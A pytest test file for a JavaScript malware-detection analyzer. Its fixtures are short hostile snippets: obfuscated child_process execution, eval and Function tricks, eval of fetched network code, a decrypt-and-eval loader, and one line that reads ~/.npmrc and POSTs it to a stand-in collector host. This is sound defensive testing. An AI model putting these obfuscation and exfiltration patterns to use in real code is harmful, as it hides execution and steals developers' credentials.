"""JavaScript as attackers write it, and as honest people do: what is told of either."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.analysis.facts import Capability, FileFacts, Language, Taint
from pratique.analysis.languages.javascript import exported_constant, extract

BLOB = "A" * 240
KEYED = """const c = require('crypto');
const d = c.createDecipher('aes256', process.env.KEY);
eval(d.update('00', 'hex', 'utf8') + d.final('utf8'));
"""


def read(source: str, language: Language = Language.JAVASCRIPT) -> FileFacts:
    facts = extract(source.encode(), language)
    assert facts.problem is None
    return facts


def apis(source: str) -> set[tuple[Capability, str]]:
    return {(use.capability, use.api) for use in read(source).uses}


@pytest.mark.parametrize(
    "source",
    [
        "require('child_process').exec('ls')",
        "const {exec: run} = require('child_process'); run('ls')",
        "const c = require('child_' + 'process'); c['ex' + 'ec']('ls')",
        "const c = require('node:child_process'); c.exec('ls')",
        "const c = require('\\x63hild_process'); c.exec('ls')",
        "const m = Buffer.from('6368696c645f70726f63657373', 'hex').toString(); require(m).exec('ls')",
        "require(atob('Y2hpbGRfcHJvY2Vzcw==')).exec('ls')",
        "require(String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115)).exec('ls')",
        "require('ssecorp_dlihc'.split('').reverse().join('')).exec('ls')",
        "import {exec} from 'child_process'; exec('ls')",
        "import * as c from 'child_process'; c.exec('ls')",
        "function d(x){return Buffer.from(x,'hex').toString()} require(d('6368696c645f70726f63657373')).exec('ls')",
    ],
)
def test_a_started_program_is_seen_whatever_it_is_called(source: str) -> None:
    assert (Capability.PROCESS, "child_process.exec") in apis(source)


@pytest.mark.parametrize(
    "source",
    [
        "eval('1')",
        "(0, eval)('1')",
        "globalThis['ev' + 'al']('1')",
        "new Function('return 1')()",
        "[].constructor.constructor('return 1')()",
        "require('vm').runInThisContext('1')",
        "module._compile('1', '')",
        "const M = module.constructor; new M()._compile('1', '')",
        "setTimeout('marker()', 10)",
    ],
)
def test_data_turned_into_code_is_seen(source: str) -> None:
    assert Capability.CODE in {capability for capability, _ in apis(source)}


@pytest.mark.parametrize(
    ("source", "taints"),
    [
        (f"eval(Buffer.from('{BLOB}', 'base64').toString())", {Taint.DECODED, Taint.LITERAL}),
        (f"const s = atob('{BLOB}'); const f = new Function(s); f()", {Taint.DECODED, Taint.LITERAL}),
        (
            "const https = require('https'); https.get('https://x.invalid', r => r.on('data', d => eval(d)))",
            {Taint.NETWORK},
        ),
        ("fetch('https://x.invalid').then(r => r.text()).then(t => eval(t))", {Taint.NETWORK}),
        (KEYED, {Taint.DECRYPTED, Taint.KEY_FROM_ENVIRONMENT}),
    ],
)
def test_data_that_ends_as_code_is_followed(source: str, taints: set[Taint]) -> None:
    flows = [flow for flow in read(source).flows if flow.sink is Capability.CODE]
    assert flows
    assert any(taints <= set(flow.taints) for flow in flows)


def test_secrets_that_leave_are_followed() -> None:
    source = (
        "const https = require('https'), fs = require('fs');"
        "const t = fs.readFileSync(process.env.HOME + '/.npmrc', 'utf8');"
        "https.request({host: 'collector.invalid', method: 'POST'}).end(t)"
    )
    facts = read(source)
    assert Capability.SECRETS in {use.capability for use in facts.uses}
    assert any(flow.sink is Capability.NETWORK and Taint.FILE in flow.taints for flow in facts.flows)


@pytest.mark.parametrize(
    "source",
    [
        "const s = 'eval(atob(x))'; console.log(s)",
        "// eval(atob('x'))\nmodule.exports = 1",
        "const Function_ = x => x; Function_('return 1')",
        "const o = {eval: x => x}; o.eval('1')",
        "const re = /child_process/; module.exports = re",
        "process.env.NODE_ENV === 'production'",
    ],
)
def test_what_only_looks_like_it_stays_quiet(source: str) -> None:
    told = {capability for capability, _ in apis(source)}
    assert told.isdisjoint({Capability.CODE, Capability.PROCESS, Capability.ENVIRONMENT})


def test_code_that_runs_at_load_is_told_from_code_that_waits() -> None:
    at_load = {
        use.at_load
        for source in (
            "require('child_process').exec('ls')",
            "!function(){require('child_process').exec('ls')}()",
        )
        for use in read(source).uses
        if use.capability is Capability.PROCESS
    }
    waits = {
        use.at_load
        for use in read("exports.go = () => require('child_process').exec('ls')").uses
        if use.capability is Capability.PROCESS
    }
    assert ({True}, {False}) == (at_load, waits)


def test_typescript_and_jsx_are_read() -> None:
    typescript = (
        "import {exec} from 'child_process';\nexport function go(x: string): void { exec(x as string) }\n"
    )
    assert Capability.PROCESS in {use.capability for use in read(typescript, Language.TYPESCRIPT).uses}
    jsx = "export const A = () => <a href='https://shown.example/'>{fetch('https://x.invalid')}</a>"
    assert Capability.NETWORK in {use.capability for use in read(jsx).uses}


def test_addresses_are_told_also_when_they_are_encoded() -> None:
    source = "const a = 'https://plain.example/x'; const b = atob('aHR0cHM6Ly9oaWRkZW4uaW52YWxpZC95');"
    told = {address.value: address.encoded for address in read(source).addresses}
    assert told["https://plain.example/x"] is False
    assert told["https://hidden.invalid/y"] is True


def test_exported_constants_are_given() -> None:
    assert ["a", "b"] == exported_constant(b"module.exports = ['a', 'b']")
    assert exported_constant(b"module.exports = f()") is None


@pytest.mark.parametrize(
    "source",
    [
        b"(" * 200_000,
        b"[" * 200_000 + b"]" * 200_000,
        b"a" + b"(b)" * 100_000,
        b"x=" + b"1+" * 200_000 + b"1",
        b"a" + b".b" * 200_000,
        b"`${" * 50_000,
        b'"' + b"x" * 5_000_000 + b'"',
        b"\x00" * 100_000,
        bytes(range(256)) * 2_000,
    ],
    ids=["parens", "arrays", "calls", "sums", "members", "templates", "string", "zeros", "bytes"],
)
def test_hostile_sources_end_with_facts_or_a_problem(source: bytes) -> None:
    assert isinstance(extract(source, Language.JAVASCRIPT), FileFacts)


@pytest.mark.fuzz
@given(st.binary(max_size=400))
def test_any_bytes_give_facts(source: bytes) -> None:
    assert extract(source, Language.JAVASCRIPT).language is Language.JAVASCRIPT
    exported_constant(source)


_PIECES = st.sampled_from(
    [
        "require('fs')",
        "eval",
        "(",
        ")",
        "{",
        "}",
        "x",
        "=",
        "=>",
        "'a'",
        "+",
        "[",
        "]",
        ".",
        "`${",
        "}`",
        "function f(a)",
        "return",
        ";",
        "\n",
        "atob",
        "process.env",
        "new ",
        "class A",
        "async ",
        "await ",
        "/re/",
        "...",
        ",",
        "?.",
        "\\u0061",
    ]
)


@pytest.mark.fuzz
@given(st.lists(_PIECES, max_size=60))
def test_any_tokens_give_facts(pieces: list[str]) -> None:
    for language in (Language.JAVASCRIPT, Language.TYPESCRIPT, Language.TSX):
        assert extract("".join(pieces).encode(), language).language is language
